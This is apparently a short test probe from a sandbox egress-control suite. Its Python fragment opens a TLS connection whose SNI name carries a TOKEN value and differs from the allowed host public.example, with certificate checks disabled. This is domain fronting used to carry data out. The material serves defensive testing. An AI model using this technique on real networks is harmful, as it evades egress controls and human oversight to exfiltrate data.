# title: names a site in TLS that is not the one asked for (domain fronting)
# harm: reaches
# egress: public.example:443
# B: no network at all
# C: the name in TLS must be the host asked for
import ssl
proxy = 'HTTP_PROXY' in env
s = socket.create_connection(('192.0.2.1', 3128) if proxy else ('93.184.216.34', 443), 2); s.settimeout(1)
if proxy: s.send(b'CONNECT public.example:443 HTTP/1.1\r\n\r\n'); print(s.recv(200))
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
context.wrap_socket(s, server_hostname=TOKEN + '.example')
